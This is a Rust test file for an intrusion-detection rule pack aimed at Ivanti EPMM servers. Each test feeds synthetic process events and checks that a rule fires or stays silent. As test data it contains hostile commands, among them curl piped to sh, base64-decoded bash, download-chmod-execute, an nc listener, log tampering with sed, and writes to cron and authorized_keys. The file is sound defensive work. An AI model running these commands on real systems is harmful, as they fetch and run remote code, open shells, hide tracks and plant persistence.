@@ -1,1 +1,661 @@
+//! Every rule of the EPMM pack, with a scenario that must raise it and one that must not,
+//! on synthetic events run through the process table and the engine as a live run does.
 
+use std::sync::Arc;
+
+use sensor_proto::v1::{
+    Alert, BindEvent, ConnectEvent, DupEvent, Event, ExecEvent, FdInfo, FdKind, FileEvent, FileOp,
+    ForkEvent, ListenEvent, ProcMemWriteEvent, ProcessVmWriteEvent, PtraceEvent, SocketInfo, event,
+};
+
+use super::{
+    Engine,
+    alert::AgentIdentity,
+    rules::{self, RuleSet},
+    sigma::SigmaSet,
+    users::UserNames,
+};
+use crate::{decode::BootClock, proctable::ProcessTable};
+
+const INIT: u32 = 1;
+const HTTPD: u32 = 100;
+const HELPER: u32 = 110;
+const TOMCAT: u32 = 200;
+const SSHD: u32 = 300;
+const ADMIN_SHELL: u32 = 310;
+
+struct World {
+    table: ProcessTable,
+    engine: Engine,
+    now: u64,
+    next_pid: u32,
+}
+
+fn tomcat_argv() -> Vec<&'static str> {
+    vec![
+        "/usr/java/default/bin/java",
+        "-Djava.util.logging.config.file=/mi/tomcat/conf/logging.properties",
+        "-Dvsp.branding=mobileiron",
+        "org.apache.catalina.startup.Bootstrap",
+        "start",
+    ]
+}
+
+impl World {
+    fn with_rules(set: RuleSet) -> Self {
+        let engine = Engine::new(
+            Arc::new(set),
+            Arc::new(SigmaSet::default()),
+            UserNames::parse("root:x:0:0::/:/bin/sh\ntomcat:x:91:91::/:/sbin/nologin\n"),
+            AgentIdentity {
+                agent_id: "test-agent".into(),
+                host: "epmm-test".into(),
+            },
+            BootClock::default(),
+            9999,
+        );
+        let mut w = World {
+            table: ProcessTable::default(),
+            engine,
+            now: 1_000_000_000,
+            next_pid: 1000,
+        };
+        w.exec_at(INIT, 0, "/usr/lib/systemd/systemd", &["/sbin/init"], 0);
+        w.exec_at(HTTPD, INIT, "/usr/sbin/httpd", &["/usr/sbin/httpd", "-DFOREGROUND"], 0);
+        w.exec_at(HELPER, HTTPD, "/usr/bin/bash", &["/bin/bash", "/mi/bin/map-appstore-url"], 0);
+        w.exec_at(TOMCAT, INIT, "/usr/java/jdk1.8.0/bin/java", &tomcat_argv(), 91);
+        w.exec_at(SSHD, INIT, "/usr/sbin/sshd", &["sshd: misupport@notty"], 0);
+        w.exec_at(ADMIN_SHELL, SSHD, "/usr/bin/bash", &["-bash"], 0);
+        w
+    }
+
+    fn new() -> Self {
+        Self::with_rules(
+            rules::compile_texts(&[(rules::DEFAULT_PACK_NAME.into(), rules::DEFAULT_PACK.into())])
+                .unwrap(),
+        )
+    }
+
+    fn feed(&mut self, mut ev: Event) -> Vec<Alert> {
+        self.now += 1_000_000;
+        ev.boot_ns = self.now;
+        self.table.apply(&ev);
+        self.engine.on_event(&ev, &mut self.table)
+    }
+
+    fn exec_at(&mut self, pid: u32, ppid: u32, exe: &str, argv: &[&str], uid: u32) -> Vec<Alert> {
+        self.exec_with(pid, ppid, exe, argv, uid, FdKind::Pipe)
+    }
+
+    fn exec_with(&mut self, pid: u32, ppid: u32, exe: &str, argv: &[&str], uid: u32, stdio: FdKind) -> Vec<Alert> {
+        let stdio = (0..3)
+            .map(|fd| FdInfo {
+                fd,
+                kind: stdio as i32,
+                socket: (stdio == FdKind::Socket).then(|| SocketInfo {
+                    family: "inet".into(),
+                    r#type: "stream".into(),
+                    remote_addr: "203.0.113.9".into(),
+                    remote_port: 443,
+                    ..Default::default()
+                }),
+                ..Default::default()
+            })
+            .collect();
+        let now = self.now;
+        self.feed(Event {
+            pid,
+            tid: pid,
+            uid,
+            comm: exe.rsplit('/').next().unwrap_or("").chars().take(15).collect(),
+            kind: Some(event::Kind::Exec(ExecEvent {
+                ppid,
+                filename: exe.into(),
+                exe: exe.into(),
+                argv: argv.iter().map(|a| (*a).to_owned()).collect(),
+                start_boot_ns: now,
+                stdio,
+                ..Default::default()
+            })),
+            ..Default::default()
+        })
+    }
+
+    /// fork of `parent` then exec: a new process; returns its pid and the alerts.
+    fn spawn(&mut self, parent: u32, exe: &str, argv: &[&str]) -> (u32, Vec<Alert>) {
+        self.spawn_with(parent, exe, argv, FdKind::Pipe)
+    }
+
+    fn spawn_with(&mut self, parent: u32, exe: &str, argv: &[&str], stdio: FdKind) -> (u32, Vec<Alert>) {
+        let pid = self.fork(parent);
+        let uid = self.table.get(parent).map_or(0, |p| p.uid);
+        let alerts = self.exec_with(pid, parent, exe, argv, uid, stdio);
+        (pid, alerts)
+    }
+
+    /// A forked copy of `parent` that does not exec (a subshell).
+    fn fork(&mut self, parent: u32) -> u32 {
+        self.next_pid += 1;
+        let pid = self.next_pid;
+        let now = self.now;
+        let uid = self.table.get(parent).map_or(0, |p| p.uid);
+        self.feed(Event {
+            pid,
+            tid: pid,
+            uid,
+            kind: Some(event::Kind::Fork(ForkEvent {
+                parent_pid: parent,
+                parent_tid: parent,
+                start_boot_ns: now + 1_000_000,
+                ..Default::default()
+            })),
+            ..Default::default()
+        });
+        pid
+    }
+
+    fn on(&mut self, pid: u32, kind: event::Kind) -> Vec<Alert> {
+        let uid = self.table.get(pid).map_or(0, |p| p.uid);
+        self.feed(Event {
+            pid,
+            tid: pid,
+            uid,
+            kind: Some(kind),
+            ..Default::default()
+        })
+    }
+
+    fn file(&mut self, pid: u32, op: FileOp, path: &str) -> Vec<Alert> {
+        self.on(
+            pid,
+            event::Kind::File(FileEvent {
+                op: op as i32,
+                path: path.into(),
+                ..Default::default()
+            }),
+        )
+    }
+
+    fn connect(&mut self, pid: u32, addr: &str, port: u32) -> Vec<Alert> {
+        self.on(
+            pid,
+            event::Kind::Connect(ConnectEvent {
+                fd: 3,
+                socket: Some(SocketInfo {
+                    family: "inet".into(),
+                    r#type: "stream".into(),
+                    remote_addr: addr.into(),
+                    remote_port: port,
+                    local_addr: "10.0.0.5".into(),
+                    local_port: 40000,
+                }),
+                ..Default::default()
+            }),
+        )
+    }
+}
+
+fn ids(alerts: &[Alert]) -> Vec<&str> {
+    alerts.iter().map(|a| a.rule_id.as_str()).collect()
+}
+
+fn has(alerts: &[Alert], rule: &str) -> bool {
+    alerts.iter().any(|a| a.rule_id == rule)
+}
+
+// ---- Lineage ---------------------------------------------------------------------------
+
+#[test]
+fn identities_label_the_web_tier_and_its_descendants() {
+    let mut w = World::new();
+    assert_eq!(&*w.table.get(TOMCAT).unwrap().lineage.as_ref().unwrap().identity, "tomcat");
+    assert_eq!(&*w.table.get(HELPER).unwrap().lineage.as_ref().unwrap().identity, "rewritemap-helper");
+    assert_eq!(&*w.table.get(HTTPD).unwrap().lineage.as_ref().unwrap().identity, "httpd");
+    assert!(w.table.get(ADMIN_SHELL).unwrap().lineage.is_none());
+    // A grandchild through fork and exec keeps the label and names its source.
+    let (sh, _) = w.spawn(TOMCAT, "/bin/sh", &["/bin/sh", "-c", "env sh"]);
+    let (env, _) = w.spawn(sh, "/usr/bin/env", &["/usr/bin/env", "sh"]);
+    let label = w.table.get(env).unwrap().lineage.clone().unwrap();
+    assert_eq!(label.source_pid, TOMCAT);
+    assert_eq!(w.table.depth_to(env, TOMCAT), Some(2));
+}
+
+#[test]
+fn alert_carries_process_ancestry_lineage_and_evidence() {
+    let mut w = World::new();
+    let (_, alerts) = w.spawn(TOMCAT, "/bin/sh", &["/bin/sh", "-c", "id"]);
+    let a = alerts.iter().find(|a| a.rule_id == "EPMM-B2").expect("B2");
+    assert_eq!(a.severity, sensor_proto::v1::Severity::High as i32);
+    assert_eq!(a.techniques, ["T1190", "T1059.004"]);
+    assert_eq!(a.host, "epmm-test");
+    assert_eq!(a.agent_id, "test-agent");
+    assert!(a.id.starts_with("test-agent:"));
+    let p = a.process.as_ref().unwrap();
+    assert_eq!(p.exe, "/bin/sh");
+    assert_eq!(p.user, "tomcat");
+    let chain: Vec<u32> = a.ancestry.iter().map(|p| p.pid).collect();
+    assert_eq!(chain, [TOMCAT, INIT]);
+    let lineage = a.lineage.as_ref().unwrap();
+    assert_eq!((lineage.identity.as_str(), lineage.source_pid, lineage.depth), ("tomcat", TOMCAT, 1));
+    assert_eq!(a.evidence.len(), 1);
+    assert_eq!(a.count, 1);
+}
+
+#[test]
+fn repeats_on_one_tree_collapse_and_are_counted() {
+    let mut w = World::new();
+    let mut raised = 0;
+    for _ in 0..5 {
+        let (_, alerts) = w.spawn(TOMCAT, "/bin/sh", &["/bin/sh", "-c", "id"]);
+        raised += alerts.iter().filter(|a| a.rule_id == "EPMM-B2").count();
+    }
+    assert_eq!(raised, 1, "one alert, not five");
+    let summary = w.engine.finish();
+    let b2: Vec<&Alert> = summary.iter().filter(|a| a.rule_id == "EPMM-B2").collect();
+    assert_eq!(b2.len(), 1);
+    assert_eq!(b2[0].count, 5);
+}
+
+// ---- One positive and one negative scenario per rule ------------------------------------
+
+#[test]
+fn b1_helper_subshell_payload() {
+    let mut w = World::new();
+    let sub = w.fork(HELPER);
+    let (_, alerts) = w.spawn(sub, "/usr/bin/id", &["id"]);
+    assert!(has(&alerts, "EPMM-B1"), "{:?}", ids(&alerts));
+    // The helper's own baseline call stays quiet.
+    let mut w = World::new();
+    let (_, alerts) = w.spawn(HELPER, "/usr/bin/date", &["date", "+%s"]);
+    assert!(alerts.is_empty(), "{:?}", ids(&alerts));
+}
+
+#[test]
+fn b2_tomcat_shell() {
+    let mut w = World::new();
+    let (_, alerts) = w.spawn(TOMCAT, "/bin/sh", &["/bin/sh", "-c", "uname -a"]);
+    assert!(has(&alerts, "EPMM-B2"));
+    // jspawnhelper, the JVM's plumbing, is not a child to alert on; nor is an admin's sh.
+    let mut w = World::new();
+    let (_, alerts) = w.spawn(TOMCAT, "/usr/lib/jvm/java-17/lib/jspawnhelper", &["jspawnhelper", "1:2:3"]);
+    assert!(alerts.is_empty(), "{:?}", ids(&alerts));
+    let (_, alerts) = w.spawn(ADMIN_SHELL, "/bin/sh", &["/bin/sh", "-c", "uname -a"]);
+    assert!(alerts.is_empty(), "{:?}", ids(&alerts));
+}
+
+#[test]
+fn b3_tomcat_runs_curl_directly() {
+    let mut w = World::new();
+    let (_, alerts) = w.spawn(TOMCAT, "/usr/bin/curl", &["curl", "http://x.oast.fun"]);
+    assert!(has(&alerts, "EPMM-B3"));
+    let mut w = World::new();
+    let (_, alerts) = w.spawn(ADMIN_SHELL, "/usr/bin/curl", &["curl", "https://updates.example"]);
+    assert!(!has(&alerts, "EPMM-B3"));
+}
+
+#[test]
+fn b5_download_chmod_execute() {
+    let mut w = World::new();
+    let (sh, _) = w.spawn(TOMCAT, "/bin/sh", &["/bin/sh", "-c", "..."]);
+    w.spawn(sh, "/usr/bin/curl", &["curl", "-o", "/tmp/kl", "http://s3/kl"]);
+    let (chmod, _) = w.spawn(sh, "/usr/bin/chmod", &["chmod", "+x", "/tmp/kl"]);
+    w.file(chmod, FileOp::ChmodExec, "/tmp/kl");
+    let (_, alerts) = w.spawn(sh, "/tmp/kl", &["/tmp/kl"]);
+    assert!(has(&alerts, "EPMM-B5"), "{:?}", ids(&alerts));
+    let b5 = alerts.iter().find(|a| a.rule_id == "EPMM-B5").unwrap();
+    assert_eq!(b5.evidence.len(), 3, "download, chmod, exec");
+    // Running a different file than the one made executable is not the sequence.
+    let mut w = World::new();
+    let (sh, _) = w.spawn(TOMCAT, "/bin/sh", &["/bin/sh", "-c", "..."]);
+    w.spawn(sh, "/usr/bin/curl", &["curl", "-o", "/tmp/kl", "http://s3/kl"]);
+    let (chmod, _) = w.spawn(sh, "/usr/bin/chmod", &["chmod", "+x", "/tmp/kl"]);
+    w.file(chmod, FileOp::ChmodExec, "/tmp/kl");
+    let (_, alerts) = w.spawn(sh, "/usr/bin/ls", &["ls"]);
+    assert!(!has(&alerts, "EPMM-B5"));
+}
+
+#[test]
+fn b6_piped_and_encoded_one_liners() {
+    let mut w = World::new();
+    let (_, alerts) = w.spawn(TOMCAT, "/bin/bash", &["bash", "-c", "echo aWQK | base64 -d | bash"]);
+    assert!(has(&alerts, "EPMM-B6"));
+    let mut w = World::new();
+    let (_, alerts) = w.spawn(TOMCAT, "/bin/bash", &["bash", "-c", "curl -s http://x/s.sh|sh"]);
+    assert!(has(&alerts, "EPMM-B6"));
+    let mut w = World::new();
+    let (_, alerts) = w.spawn(ADMIN_SHELL, "/bin/bash", &["bash", "-c", "echo aWQK | base64 -d | bash"]);
+    assert!(!has(&alerts, "EPMM-B6"));
+}
+
+#[test]
+fn b7_reverse_shell_on_a_socket() {
+    let mut w = World::new();
+    let (_, alerts) = w.spawn_with(ADMIN_SHELL, "/bin/bash", &["bash", "-i"], FdKind::Socket);
+    assert!(has(&alerts, "EPMM-B7"), "socket stdio is a reverse shell wherever it comes from");
+    let mut w = World::new();
+    let (_, alerts) = w.spawn_with(TOMCAT, "/bin/sh", &["/bin/sh"], FdKind::Pipe);
+    assert!(!has(&alerts, "EPMM-B7"), "the JVM's children get pipes");
+}
+
+#[test]
+fn b7_dup_of_a_socket_onto_stdio() {
+    let dup = |kind: FdKind| {
+        event::Kind::Dup(DupEvent {
+            call: "dup2".into(),
+            oldfd: 3,
+            newfd: 0,
+            result: 0,
+            file: Some(FdInfo {
+                kind: kind as i32,
+                ..Default::default()
+            }),
+            ..Default::default()
+        })
+    };
+    let mut w = World::new();
+    let (py, _) = w.spawn(ADMIN_SHELL, "/usr/bin/python3", &["python3", "-c", "..."]);
+    assert!(has(&w.on(py, dup(FdKind::Socket)), "EPMM-B7-DUP"));
+    assert!(!has(&w.on(py, dup(FdKind::Pipe)), "EPMM-B7-DUP"));
+}
+
+#[test]
+fn b8_java_native_reverse_shell() {
+    let mut w = World::new();
+    w.connect(TOMCAT, "127.0.0.1", 4444);
+    let (_, alerts) = w.spawn(TOMCAT, "/bin/sh", &["/bin/sh"]);
+    assert!(has(&alerts, "EPMM-B8"), "{:?}", ids(&alerts));
+    // Tomcat's own connector and MySQL are baseline destinations.
+    let mut w = World::new();
+    w.connect(TOMCAT, "127.0.0.1", 3306);
+    let (_, alerts) = w.spawn(TOMCAT, "/bin/sh", &["/bin/sh"]);
+    assert!(!has(&alerts, "EPMM-B8"));
+    // Too late: more than 5 s between the connect and the shell.
+    let mut w = World::new();
+    w.connect(TOMCAT, "127.0.0.1", 4444);
+    w.now += 6_000_000_000;
+    let (_, alerts) = w.spawn(TOMCAT, "/bin/sh", &["/bin/sh"]);
+    assert!(!has(&alerts, "EPMM-B8"));
+}
+
+#[test]
+fn b9_web_shell_written() {
+    let mut w = World::new();
+    let (sh, _) = w.spawn(TOMCAT, "/bin/sh", &["/bin/sh", "-c", "echo > 403.jsp"]);
+    assert!(has(&w.file(sh, FileOp::Create, "/mi/tomcat/webapps/mifs/403.jsp"), "EPMM-B9"));
+    let mut w = World::new();
+    let (rpm, _) = w.spawn(ADMIN_SHELL, "/usr/bin/rpm", &["rpm", "-Uvh", "mi.rpm"]);
+    assert!(w.file(rpm, FileOp::Create, "/mi/tomcat/webapps/mifs/index.jsp").is_empty(), "upgrades write JSPs");
+}
+
+#[test]
+fn b9_jvm_writes_a_jsp() {
+    let mut w = World::new();
+    assert!(has(&w.file(TOMCAT, FileOp::Create, "/mi/tomcat/webapps/mifs/x.jsp"), "EPMM-B9-JVM"));
+    // Jasper compiling into the work directory is not the web root.
+    assert!(w.file(TOMCAT, FileOp::Create, "/mi/tomcat/work/Catalina/x_jsp.class").is_empty());
+}
+
+#[test]
+fn b10_data_staged_as_css() {
+    let mut w = World::new();
+    let (dump, _) = w.spawn(TOMCAT, "/usr/bin/mysqldump", &["mysqldump", "--databases", "mifs"]);
+    assert!(has(&w.file(dump, FileOp::Create, "/mi/tomcat/webapps/mifs/css/mibasecss.css"), "EPMM-B10"));
+    let mut w = World::new();
+    assert!(!has(&w.file(TOMCAT, FileOp::Create, "/mi/tomcat/webapps/mifs/css/cache.css"), "EPMM-B10"));
+}
+
+#[test]
+fn b11_database_theft() {
+    let mut w = World::new();
+    let (_, alerts) = w.spawn(TOMCAT, "/usr/bin/mysqldump", &["mysqldump", "--databases", "mifs", "--tables", "mi_user"]);
+    assert!(has(&alerts, "EPMM-B11"));
+    // A backup by cron, outside the web tier, is not theft.
+    let mut w = World::new();
+    let (cron, _) = w.spawn(INIT, "/usr/sbin/crond", &["crond"]);
+    let (_, alerts) = w.spawn(cron, "/usr/bin/mysqldump", &["mysqldump", "--databases", "mifs"]);
+    assert!(!has(&alerts, "EPMM-B11"));
+}
+
+#[test]
+fn b12_privileged_shell() {
+    let mut w = World::new();
+    let (sh, _) = w.spawn(TOMCAT, "/bin/sh", &["/bin/sh", "-c", "/usr/bin/env /bin/sh -p -c 'id'"]);
+    let (env, _) = w.spawn(sh, "/usr/bin/env", &["/usr/bin/env", "/bin/sh", "-p", "-c", "id"]);
+    let (_, alerts) = w.spawn(env, "/bin/sh", &["/bin/sh", "-p", "-c", "id"]);
+    assert!(has(&alerts, "EPMM-B12"));
+    let mut w = World::new();
+    let (_, alerts) = w.spawn(ADMIN_SHELL, "/bin/sh", &["/bin/sh", "-c", "id"]);
+    assert!(!has(&alerts, "EPMM-B12"));
+}
+
+#[test]
+fn b15_injection_and_admin_debugging() {
+    let ptrace = |target: u32| {
+        event::Kind::Ptrace(PtraceEvent {
+            request: "PTRACE_ATTACH".into(),
+            request_code: 16,
+            target_pid: target,
+            ..Default::default()
+        })
+    };
+    let mut w = World::new();
+    let (sh, _) = w.spawn(HTTPD, "/bin/sh", &["sh"]);
+    let (tool, _) = w.spawn(sh, "/tmp/inject", &["/tmp/inject"]);
+    assert!(has(&w.on(tool, ptrace(TOMCAT)), "EPMM-B15"));
+    let vm = event::Kind::ProcessVmWrite(ProcessVmWriteEvent {
+        target_pid: TOMCAT,
+        bytes: 8,
+        ..Default::default()
+    });
+    assert!(has(&w.on(tool, vm), "EPMM-B15") || w.engine.stats.collapsed > 0);
+    // Support's gdb from an ssh login is audited at low severity, not alarmed.
+    let mut w = World::new();
+    let (gdb, _) = w.spawn(ADMIN_SHELL, "/usr/bin/gdb", &["gdb", "-p", "200"]);
+    let alerts = w.on(gdb, ptrace(TOMCAT));
+    assert!(!has(&alerts, "EPMM-B15") && has(&alerts, "EPMM-B15-ADMIN"), "{:?}", ids(&alerts));
+    // A process writing its own memory is not injection.
+    let own = event::Kind::ProcMemWrite(ProcMemWriteEvent {
+        target_pid: gdb,
+        path: format!("/proc/{gdb}/mem"),
+        ..Default::default()
+    });
+    assert!(w.on(gdb, own).is_empty());
+}
+
+#[test]
+fn b16_memfd_execution() {
+    let mut w = World::new();
+    let pid = w.fork(ADMIN_SHELL);
+    let mut ev = Event {
+        pid,
+        tid: pid,
+        kind: Some(event::Kind::Exec(ExecEvent {
+            ppid: ADMIN_SHELL,
+            filename: "/dev/fd/3".into(),
+            exe: "/memfd:kworker".into(),
+            exe_memfd: true,
+            exe_deleted: true,
+            argv: vec!["[kworker/0:1]".into()],
+            ..Default::default()
+        })),
+        ..Default::default()
+    };
+    assert!(has(&w.feed(ev.clone()), "EPMM-B16"));
+    let mut w = World::new();
+    let pid = w.fork(ADMIN_SHELL);
+    ev.pid = pid;
+    if let Some(event::Kind::Exec(e)) = &mut ev.kind {
+        e.exe = "/usr/bin/true".into();
+        e.exe_memfd = false;
+        e.exe_deleted = false;
+    }
+    assert!(!has(&w.feed(ev), "EPMM-B16"));
+}
+
+#[test]
+fn b17_exec_from_tmp() {
+    let mut w = World::new();
+    let (_, alerts) = w.spawn(ADMIN_SHELL, "/dev/shm/.x/kworker", &["kworker"]);
+    assert!(has(&alerts, "EPMM-B17"));
+    let mut w = World::new();
+    let (_, alerts) = w.spawn(ADMIN_SHELL, "/tmp/ivanti-security-update-1761642/run", &["run"]);
+    assert!(!has(&alerts, "EPMM-B17"), "the hotfix's own directory");
+    let (_, alerts) = w.spawn(ADMIN_SHELL, "/usr/bin/ls", &["ls"]);
+    assert!(!has(&alerts, "EPMM-B17"));
+}
+
+#[test]
+fn b18_persistence() {
+    let mut w = World::new();
+    let (sh, _) = w.spawn(TOMCAT, "/bin/sh", &["sh"]);
+    assert!(has(&w.file(sh, FileOp::Create, "/etc/cron.d/update"), "EPMM-B18"));
+    assert!(has(&w.file(sh, FileOp::OpenWrite, "/home/misupport/.ssh/authorized_keys"), "EPMM-B18") || w.engine.stats.collapsed > 0);
+    let (_, alerts) = w.spawn(sh, "/usr/bin/crontab", &["crontab", "-"]);
+    assert!(has(&alerts, "EPMM-B18-EXEC"));
+    let mut w = World::new();
+    let (yum, _) = w.spawn(ADMIN_SHELL, "/usr/bin/yum", &["yum", "update"]);
+    let (rpm, _) = w.spawn(yum, "/usr/bin/rpm", &["rpm"]);
+    assert!(w.file(rpm, FileOp::Create, "/usr/lib/systemd/system/mi.service").is_empty());
+}
+
+#[test]
+fn b20_recon_burst() {
+    let mut w = World::new();
+    let (sh, _) = w.spawn(TOMCAT, "/bin/sh", &["sh", "-c", "id;uname -a;hostname"]);
+    w.spawn(sh, "/usr/bin/id", &["id"]);
+    w.spawn(sh, "/usr/bin/uname", &["uname", "-a"]);
+    let (_, alerts) = w.spawn(sh, "/usr/bin/hostname", &["hostname"]);
+    assert!(has(&alerts, "EPMM-B20"), "{:?}", ids(&alerts));
+    // The same tool three times is not a burst of reconnaissance.
+    let mut w = World::new();
+    let (sh, _) = w.spawn(TOMCAT, "/bin/sh", &["sh"]);
+    let mut all = Vec::new();
+    for _ in 0..3 {
+        all.extend(w.spawn(sh, "/usr/bin/id", &["id"]).1);
+    }
+    assert!(!has(&all, "EPMM-B20"));
+}
+
+#[test]
+fn b21_tunnels() {
+    let mut w = World::new();
+    let (_, alerts) = w.spawn(ADMIN_SHELL, "/tmp/frpc", &["frpc", "-c", "frpc.ini"]);
+    assert!(has(&alerts, "EPMM-B21"));
+    let mut w = World::new();
+    let (_, alerts) = w.spawn(ADMIN_SHELL, "/usr/bin/ssh", &["ssh", "-R", "9000:localhost:22", "x"]);
+    assert!(!has(&alerts, "EPMM-B21"), "an admin's ssh tunnel is not the web tier's");
+}
+
+#[test]
+fn b23_log_tampering() {
+    let mut w = World::new();
+    let (sed, _) = w.spawn(ADMIN_SHELL, "/usr/bin/sed", &["sed", "-i", "/fob/d", "/var/log/httpd/https-access_log"]);
+    let mut rename = FileEvent {
+        op: FileOp::Rename as i32,
+        path: "/var/log/httpd/https-access_log".into(),
+        other_path: "/var/log/httpd/sedX1".into(),
+        ..Default::default()
+    };
+    assert!(has(&w.on(sed, event::Kind::File(rename.clone())), "EPMM-B23"));
+    let mut w = World::new();
+    let (cron, _) = w.spawn(INIT, "/usr/sbin/crond", &["crond"]);
+    let (lr, _) = w.spawn(cron, "/usr/sbin/logrotate", &["logrotate", "/etc/logrotate.conf"]);
+    rename.path = "/var/log/httpd/https-access_log".into();
+    assert!(w.on(lr, event::Kind::File(rename)).is_empty(), "logrotate rotates logs");
+}
+
+#[test]
+fn b24_outbound_from_web_tier() {
+    let mut w = World::new();
+    let (sh, _) = w.spawn(TOMCAT, "/bin/bash", &["bash"]);
+    assert!(has(&w.connect(sh, "193.24.123.42", 443), "EPMM-B24"));
+    let mut w = World::new();
+    let (sh, _) = w.spawn(TOMCAT, "/bin/bash", &["bash"]);
+    assert!(!has(&w.connect(sh, "10.1.2.3", 443), "EPMM-B24"), "internal destination");
+    assert!(!has(&w.connect(TOMCAT, "52.1.2.3", 443), "EPMM-B24"), "Tomcat's own integrations");
+}
+
+#[test]
+fn b25_new_listener() {
+    let listen = event::Kind::Listen(ListenEvent {
+        fd: 3,
+        backlog: 1,
+        socket: Some(SocketInfo {
+            family: "inet".into(),
+            r#type: "stream".into(),
+            local_addr: "0.0.0.0".into(),
+            local_port: 443,
+            ..Default::default()
+        }),
+        ..Default::default()
+    });
+    let mut w = World::new();
+    let (nc, _) = w.spawn(ADMIN_SHELL, "/usr/bin/nc", &["nc", "-lvp", "443"]);
+    assert!(has(&w.on(nc, listen.clone()), "EPMM-B25"));
+    let mut w = World::new();
+    assert!(w.on(HTTPD, listen).is_empty());
+}
+
+// ---- Benign EPMM activity stays quiet (THREATS.md 7) --------------------------------------
+
+#[test]
+fn benign_activity_is_quiet() {
+    let mut w = World::new();
+    let mut alerts = Vec::new();
+    // JVM child plumbing on JDK >= 12: jspawnhelper execs, then the real program, with pipes.
+    let child = w.fork(TOMCAT);
+    alerts.extend(w.exec_at(child, TOMCAT, "/usr/lib/jvm/java-17/lib/jspawnhelper", &["jspawnhelper", "1:2:3"], 91));
+    // An administrator's session and a package query.
+    let (sh, a) = w.spawn(ADMIN_SHELL, "/usr/bin/bash", &["bash"]);
+    alerts.extend(a);
+    for (exe, argv) in [
+        ("/usr/bin/ls", vec!["ls", "-l", "/mi"]),
+        ("/usr/bin/rpm", vec!["rpm", "-qa"]),
+        ("/usr/bin/systemctl", vec!["systemctl", "status", "httpd"]),
+        ("/usr/bin/tail", vec!["tail", "/var/log/httpd/https-access_log"]),
+    ] {
+        alerts.extend(w.spawn(sh, exe, &argv).1);
+    }
+    // Tomcat's own log rotation, gc.log, loopback connectors, MySQL.
+    alerts.extend(w.file(TOMCAT, FileOp::Rename, "/var/log/tomcat/mifs.log"));
+    alerts.extend(w.file(TOMCAT, FileOp::Create, "/mi/tomcat/work/Catalina/localhost/mifs/x_jsp.java"));
+    alerts.extend(w.connect(TOMCAT, "127.0.0.1", 8083));
+    alerts.extend(w.on(
+        TOMCAT,
+        event::Kind::Bind(BindEvent {
+            unix_path: "".into(),
+            ..Default::default()
+        }),
+    ));
+    // The helper serving a normal download calls date.
+    alerts.extend(w.spawn(HELPER, "/usr/bin/date", &["date", "+%s"]).1);
+    assert!(alerts.is_empty(), "{:?}", ids(&alerts));
+}
+
+#[test]
+fn allow_entries_and_disables_silence_rules() {
+    let extra = "allow:\n  - rules: [EPMM-B2]\n    condition: proc.cmdline contains \"diag.sh\"\n    reason: EPMM diagnostics\ndisable: [EPMM-B3]\n";
+    let set = rules::compile_texts(&[
+        (rules::DEFAULT_PACK_NAME.into(), rules::DEFAULT_PACK.into()),
+        ("local.yaml".into(), extra.into()),
+    ])
+    .unwrap();
+    let mut w = World::with_rules(set);
+    let (_, alerts) = w.spawn(TOMCAT, "/bin/sh", &["/bin/sh", "/mi/bin/diag.sh"]);
+    assert!(!has(&alerts, "EPMM-B2"));
+    assert_eq!(w.engine.stats.allowed, 1);
+    let (_, alerts) = w.spawn(TOMCAT, "/usr/bin/curl", &["curl", "http://x"]);
+    assert!(!has(&alerts, "EPMM-B3"));
+    let (_, alerts) = w.spawn(TOMCAT, "/bin/sh", &["/bin/sh", "-c", "id"]);
+    assert!(has(&alerts, "EPMM-B2"), "other shells still alert");
+}
+
+/// Every rule of the pack is exercised by a test above.
+#[test]
+fn every_default_rule_has_tests() {
+    let source = include_str!("tests.rs");
+    let set = rules::compile_texts(&[(rules::DEFAULT_PACK_NAME.into(), rules::DEFAULT_PACK.into())]).unwrap();
+    for rule in &set.rules {
+        assert!(source.contains(&format!("\"{}\"", rule.id)), "no test names {}", rule.id);
+    }
+}
